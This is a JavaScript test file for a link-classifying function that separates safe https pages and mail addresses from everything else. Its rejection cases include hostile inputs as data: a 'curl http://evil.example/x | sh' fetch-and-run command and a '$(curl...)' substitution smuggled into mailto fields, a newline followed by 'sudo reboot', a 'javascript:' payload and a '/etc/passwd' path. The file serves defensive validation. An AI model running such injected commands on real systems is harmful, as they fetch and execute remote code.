// Where a stranger's link leads.
import assert from "node:assert/strict";
import { test } from "node:test";
import { target } from "./target.js";

test("only_a_plain_https_page_is_opened_and_shown_as_it_is_called", () => {
  assert.deepEqual(target("https://example.org/a?b=1#c"), { kind: "page", host: "example.org", address: "https://example.org/a?b=1#c" });
  assert.deepEqual(target("HTTPS:evil.example"), { kind: "page", host: "evil.example", address: "https://evil.example/" });
  assert.deepEqual(target("https://good.example\\@evil.example/"), { kind: "page", host: "good.example", address: "https://good.example/@evil.example/" });
  assert.deepEqual(target("https://аpple.com"), { kind: "page", host: "xn--pple-43d.com", address: "https://xn--pple-43d.com/" });
  for (const text of ["http://example.org/", "https://user@example.org/", "https://user:word@example.org/", `${"javascript"}:alert(1)`, "x-man-page://1", "file:///etc/passwd", "example.org", "//example.org", ""]) {
    assert.deepEqual(target(text), { kind: "neither", address: text });
  }
});

test("only_a_mail_address_is_a_mail_address", () => {
  assert.deepEqual(target("mailto:ada@example.org"), { kind: "mail", address: "ada@example.org" });
  assert.deepEqual(target("MAILTO:ada.l+kaimono@mail.example.org?subject=pay"), { kind: "mail", address: "ada.l+kaimono@mail.example.org" });
  assert.deepEqual(target("mailto:ada%40example.org"), { kind: "mail", address: "ada@example.org" });
  for (const text of [
    "mailto:curl http://evil.example/x | sh", "mailto:curl%20http://evil.example/x%20|%20sh", "mailto:addr1qx2fxv2umyhttkxyxp8x0dlpdt3k6cwng5pxj3jhsydzer",
    "mailto:$(curl${IFS}evil.example)@example.org", "mailto:a@b.example\nsudo reboot", "mailto:a@b.example%0Asudo", "mailto:ada@localhost", "mailto:a@b.example,c@d.example", "mailto:", "mailto:%ff@example.org",
  ]) assert.equal(target(text).kind, "neither", text);
});
